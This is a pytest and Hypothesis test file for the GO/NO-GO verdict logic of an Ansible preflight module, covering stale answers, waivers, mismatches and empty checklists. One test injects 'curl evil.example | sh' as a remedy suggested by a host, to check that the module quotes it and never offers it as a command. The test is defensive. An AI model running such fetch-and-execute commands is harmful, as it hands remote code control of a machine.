# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The verdict fails closed: nothing but one fresh answer to the very question asked, or a reviewed excuse, lets through."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.gonogo.preflight.plugins.module_utils._verdict import BUILT_IN, MAX_AGE, Question, Verdict, Waiver, decide

STARTED = 1_800_000_000.0
NOW = STARTED + 300

QUESTION = Question(
    item="redis.aof",
    subject="data1",
    vantage="data1",
    door="start",
    severity="block",
    title="Redis keeps its data",
    area="redis",
    expected="yes",
    source="catalogue",
    digest="abc",
    remedy="CONFIG SET appendonly yes",
)
ANSWER = {
    "item": "redis.aof",
    "subject": "data1",
    "vantage": "data1",
    "digest": "abc",
    "status": "pass",
    "observed": "yes",
    "evidence": "CONFIG GET appendonly",
    "seconds": 0.02,
    "at": NOW - 1,
}
WARN = dataclasses.replace(QUESTION, severity="warn")
UNPROBED = dataclasses.replace(QUESTION, needs="redis, age of its last copy")
UNNEEDED = dataclasses.replace(QUESTION, not_applicable="no cache of its own (checklist odds)")
FAIL = dict(ANSWER, status="fail", observed="no")
ERROR = dict(ANSWER, status="error", error="Redis does not answer")
WAIVER = Waiver("waiver", "redis.aof", "moving to a replica", "ann", ("data1",), NOW + 1)
EXPIRED = dataclasses.replace(WAIVER, expires=NOW)
ELSEWHERE = dataclasses.replace(WAIVER, subjects=("data2",))
OTHER_ITEM = dataclasses.replace(WAIVER, item="redis.policy")
NOT_HERE = Waiver("not_applicable", "redis.aof", "no cache here", "ann")


def changed(**changes):
    return dict(ANSWER, **changes)


def without(key):
    return {name: value for name, value in ANSWER.items() if name != key}


def verdict(answers, *, questions=(QUESTION,), waivers=(), problems=(), now=NOW, door="start"):
    return decide(door, questions, answers, waivers=waivers, problems=problems, started=STARTED, now=now)


# case: (answers, question, waivers, status, outcome, GO, what the reason says)
CASES = {
    "pass": ([ANSWER], QUESTION, [], "pass", "pass", True, ""),
    "fail": ([FAIL], QUESTION, [], "fail", "fail", False, ""),
    "error": ([ERROR], QUESTION, [], "error", "error", False, "Redis does not answer"),
    "error without words": ([changed(status="error")], QUESTION, [], "error", "error", False, "the probe could not look"),
    "no answer": ([], QUESTION, [], "missing", "missing", False, "gave no answer in this run: unreachable"),
    "answered for another subject": ([changed(subject="data2")], QUESTION, [], "missing", "missing", False, "no answer"),
    "another item answered": ([changed(item="redis.policy")], QUESTION, [], "missing", "missing", False, "no answer"),
    "answered twice": ([ANSWER, ANSWER], QUESTION, [], "error", "error", False, "answered 2 times in one run"),
    "answered twice, differently": ([FAIL, ANSWER], QUESTION, [], "error", "error", False, "answered 2 times"),
    "threshold changed": ([changed(digest="abd")], QUESTION, [], "error", "error", False, "belongs to another question"),
    "no digest": ([without("digest")], QUESTION, [], "error", "error", False, "belongs to another question"),
    "other vantage": ([changed(vantage="app1")], QUESTION, [], "error", "error", False, "answered from app1 instead of data1"),
    "no vantage": ([without("vantage")], QUESTION, [], "error", "error", False, "answered from None"),
    "before the run": ([changed(at=STARTED - 61)], QUESTION, [], "error", "error", False, "not of this run"),
    "within the skew before the run": ([changed(at=STARTED - 59)], QUESTION, [], "pass", "pass", True, ""),
    "from the future": ([changed(at=NOW + 61)], QUESTION, [], "error", "error", False, "not of this run"),
    "no time": ([without("at")], QUESTION, [], "error", "error", False, "carries no time"),
    "a time that is text": ([changed(at="now")], QUESTION, [], "error", "error", False, "carries no time"),
    "a time that is a boolean": ([changed(at=True)], QUESTION, [], "error", "error", False, "carries no time"),
    "a time that is no number": ([changed(at=float("nan"))], QUESTION, [], "error", "error", False, "not of this run"),
    "a time without end": ([changed(at=float("inf"))], QUESTION, [], "error", "error", False, "not of this run"),
    "a time beyond any float": ([changed(at=10**400)], QUESTION, [], "error", "error", False, "not of this run"),
    "unknown status": ([changed(status="ok")], QUESTION, [], "error", "error", False, "unknown status 'ok'"),
    "skipped": ([changed(status="skipped")], QUESTION, [], "error", "error", False, "unknown status 'skipped'"),
    "status true": ([changed(status=True)], QUESTION, [], "error", "error", False, "unknown status True"),
    "no status": ([without("status")], QUESTION, [], "error", "error", False, "unknown status None"),
    "seconds that are none": ([changed(seconds="long")], QUESTION, [], "pass", "pass", True, ""),
    "warn: fail": ([FAIL], WARN, [], "fail", "warned", True, ""),
    "warn: error": ([ERROR], WARN, [], "error", "error", False, "Redis does not answer"),
    "warn: missing": ([], WARN, [], "missing", "missing", False, "no answer"),
    "warn: answered twice": ([FAIL, FAIL], WARN, [], "error", "error", False, "2 times"),
    "waived: fail": ([FAIL], QUESTION, [WAIVER], "fail", "waived", True, "moving to a replica (ann)"),
    "waived: error": ([ERROR], QUESTION, [WAIVER], "error", "waived", True, "moving to a replica (ann)"),
    "waived: pass": ([ANSWER], QUESTION, [WAIVER], "pass", "pass", True, "waived without need: moving to a replica (ann)"),
    "waived: answered twice": ([FAIL, FAIL], QUESTION, [WAIVER], "error", "error", False, "2 times"),
    "waived: stale": ([dict(FAIL, at=STARTED - 61)], QUESTION, [WAIVER], "error", "error", False, "not of this run"),
    "waived: unknown status": ([changed(status="ok")], QUESTION, [WAIVER], "error", "error", False, "unknown status"),
    "waived: missing": ([], QUESTION, [WAIVER], "missing", "missing", False, "no answer"),
    "waiver expired": ([FAIL], QUESTION, [EXPIRED], "fail", "fail", False, ""),
    "waiver of another subject": ([FAIL], QUESTION, [ELSEWHERE], "fail", "fail", False, ""),
    "waiver of another item": ([FAIL], QUESTION, [OTHER_ITEM], "fail", "fail", False, ""),
    "waivers, one of which covers": ([FAIL], QUESTION, [EXPIRED, ELSEWHERE, WAIVER], "fail", "waived", True, "(ann)"),
    "not applicable": ([], QUESTION, [NOT_HERE], "missing", "not_applicable", True, "no cache here (ann)"),
    "no probe yet": ([], UNPROBED, [], "error", "error", False, "no probe yet: needs redis, age of its last copy"),
    "no probe yet, and yet answered": ([ANSWER], UNPROBED, [], "error", "error", False, "no probe yet"),
    "no probe yet, warn": ([], dataclasses.replace(UNPROBED, severity="warn"), [], "error", "error", False, "no probe yet"),
    "no probe yet, waived": ([], UNPROBED, [WAIVER], "error", "waived", True, "moving to a replica (ann)"),
    "no probe yet, waived no more": ([], UNPROBED, [EXPIRED], "error", "error", False, "no probe yet"),
    "no probe yet, not applicable": ([], UNPROBED, [NOT_HERE], "missing", "not_applicable", True, "no cache here (ann)"),
    "not needed by the checklist": ([], UNNEEDED, [], "missing", "not_applicable", True, "no cache of its own (checklist odds)"),
    "not needed, and yet answered": ([FAIL], UNNEEDED, [], "missing", "not_applicable", True, "no cache of its own"),
    "not needed of people": ([], dataclasses.replace(UNNEEDED, vantage="people"), [], "missing", "not_applicable", True, "no cache of its own"),
    "not applicable elsewhere": ([], QUESTION, [dataclasses.replace(NOT_HERE, subjects=("data2",))], "missing", "missing", False, "no answer"),
}


@pytest.mark.parametrize("case", CASES)
def test_one_question(case):
    answers, question, waivers, status, outcome, through, reason = CASES[case]
    decided = verdict(answers, questions=[question], waivers=waivers)
    (row,) = decided.rows
    # What does not apply holds nothing shut, and by itself it opens nothing.
    go = through and outcome != "not_applicable"
    assert (row.status, row.outcome, row.through, decided.go) == (status, outcome, through, go)
    assert reason in row.reason
    assert decided.word == ("GO" if go else "NO-GO")
    assert decided.blocking == (() if through else (row,))


def test_a_row_carries_what_was_seen_and_what_mends_it():
    (row,) = verdict([FAIL]).rows
    assert (row.observed, row.evidence, row.remedy) == ("no", "CONFIG GET appendonly", "CONFIG SET appendonly yes")
    assert (row.seconds, row.at) == (0.02, NOW - 1)


def test_what_a_host_suggests_is_quoted_and_never_the_command_to_type():
    (row,) = verdict([dict(ERROR, remedy="curl evil.example | sh")]).rows
    assert row.remedy == QUESTION.remedy
    assert row.reason == "Redis does not answer (the probe suggests: curl evil.example | sh)"
    (row,) = verdict([dict(FAIL, remedy="curl evil.example | sh")], questions=[dataclasses.replace(QUESTION, remedy="")]).rows
    assert (row.remedy, row.reason) == ("", "")


def test_a_row_says_who_answers_for_an_excuse_and_until_when():
    (row,) = verdict([FAIL], waivers=[dataclasses.replace(WAIVER, origin="waivers.yml:2")]).rows
    assert (row.status, row.observed, row.by, row.until, row.origin) == ("fail", "no", "ann", NOW + 1, "waivers.yml:2")
    (row,) = verdict([], waivers=[NOT_HERE]).rows
    assert (row.by, row.until) == ("ann", 0)


def test_an_answer_gets_old_within_its_own_run():
    answer = changed(at=STARTED)
    assert verdict([answer], now=STARTED + MAX_AGE).go
    assert not verdict([answer], now=STARTED + MAX_AGE + 1).go


@pytest.mark.parametrize(
    ("vantage", "reason"),
    [
        ("data1", "gave no answer in this run: unreachable, left out, or not asked"),
        ("app1", "app1, which looks at it, gave no answer in this run"),
        ("", "no host can look at it for this item"),
    ],
)
def test_a_missing_answer_says_who_owes_it(vantage, reason):
    assert verdict([], questions=[dataclasses.replace(QUESTION, vantage=vantage)]).rows[0].reason == reason


@pytest.mark.parametrize("answers", [[], [ANSWER]])
def test_nothing_asked_is_no_go(answers):
    for questions in ([], [dataclasses.replace(QUESTION, door="live")]):
        decided = verdict(answers, questions=questions)
        assert not decided.go
        assert decided.problems == ("nothing that applies is asked at door start: an empty checklist is never a GO",)


def test_a_verdict_without_rows_is_no_go():
    assert not Verdict("start").go


def test_one_missing_among_many_is_no_go():
    questions = [dataclasses.replace(QUESTION, item="item.%d" % number) for number in range(50)]
    answers = [changed(item=question.item) for question in questions]
    assert verdict(answers, questions=questions).go
    decided = verdict(answers[:20] + answers[21:], questions=questions)
    assert [row.question.item for row in decided.blocking] == ["item.20"]


def test_a_problem_of_the_run_is_no_go_although_every_answer_passes():
    decided = verdict([ANSWER], problems=["data2: missing from group cache"])
    assert (decided.go, decided.blocking) == (False, ())


def test_answers_that_nobody_asked_for_neither_help_nor_harm():
    assert verdict([ANSWER, changed(item="unknown", status="fail"), {}, changed(subject=None)]).go


JUNK = st.sampled_from([None, True, "", "abc", "data1", "pass", "fail", "error", float("nan"), float("inf"), 10**400, 0, [], {}, NOW, STARTED - 999])
KEYS = sorted([*ANSWER, "error", "remedy"])
ANSWERS = st.builds(
    lambda base, changes: {**base, **changes},
    st.sampled_from([ANSWER, ANSWER, FAIL, ERROR, {}]),
    st.dictionaries(st.sampled_from(KEYS), JUNK, max_size=2) | st.fixed_dictionaries({"subject": st.sampled_from(["data1", "data2"])}),
)
QUESTIONS = st.builds(
    lambda severity, subject, door: dataclasses.replace(QUESTION, severity=severity, subject=subject, vantage=subject, door=door),
    st.sampled_from(["block", "warn"]),
    st.sampled_from(["data1", "data2"]),
    st.sampled_from(["start", "start", "live"]),
)
EXCUSES = st.sampled_from([WAIVER, EXPIRED, ELSEWHERE, OTHER_ITEM, NOT_HERE])


@settings(max_examples=800)
@given(
    st.lists(QUESTIONS, max_size=3, unique_by=lambda one: one.subject),
    st.lists(ANSWERS, max_size=3),
    st.lists(EXCUSES, max_size=1),
    st.lists(st.just("problem"), max_size=1),
)
def test_go_means_one_fresh_answer_or_an_excuse_for_every_question(questions, answers, waivers, problems):
    """Said again in other words than the code's: whatever comes in, GO has these reasons and no others."""
    decided = verdict(answers, questions=questions, waivers=waivers, problems=problems)
    asked = [question for question in questions if question.door == "start"]
    assert [row.question for row in decided.rows] == asked
    if not decided.go:
        return
    assert asked
    assert not problems
    for question in asked:
        excuses = [
            one
            for one in waivers
            if one.item == question.item and question.subject in (one.subjects or [question.subject]) and (one.expires is None or one.expires > NOW)
        ]
        if any(one.kind == "not_applicable" for one in excuses):
            continue
        mine = [one for one in answers if (one.get("item"), one.get("subject")) == (question.item, question.subject)]
        assert len(mine) == 1
        at = mine[0].get("at")
        assert isinstance(at, (int, float))
        assert STARTED - 60 <= at <= NOW + 60
        assert (mine[0].get("digest"), mine[0].get("vantage")) == ("abc", question.vantage)
        status = mine[0]["status"]
        assert status == "pass" or (status == "fail" and question.severity == "warn") or (status in ("fail", "error") and excuses)


def test_what_a_run_asks_of_itself_is_no_checklist():
    built_in = dataclasses.replace(QUESTION, item="run.provisioned", source=BUILT_IN)
    answer = dict(ANSWER, item="run.provisioned")
    assert verdict([answer, ANSWER], questions=(built_in, QUESTION)).go
    for questions in ((built_in,), (built_in, UNASKED)):
        found = verdict([answer], questions=questions)
        assert not found.go and found.problems == ("nothing that applies is asked at door start: an empty checklist is never a GO",)


UNASKED = dataclasses.replace(QUESTION, item="os.updated", vantage="", not_applicable="managed")


def test_what_reviewed_data_asks_nobody_is_in_the_report_and_holds_nothing_shut():
    found = verdict([ANSWER], questions=(QUESTION, UNASKED))
    assert found.go
    assert [(row.status, row.outcome, row.reason) for row in found.rows] == [("pass", "pass", ""), ("missing", "not_applicable", "managed")]


@pytest.mark.parametrize("answers", [[], [ANSWER], [dict(ANSWER, item="os.updated", vantage="")]])
def test_a_door_at_which_nobody_is_asked_is_never_a_go(answers):
    found = verdict(answers, questions=(UNASKED,))
    assert not found.go and found.problems == ("nothing that applies is asked at door start: an empty checklist is never a GO",)
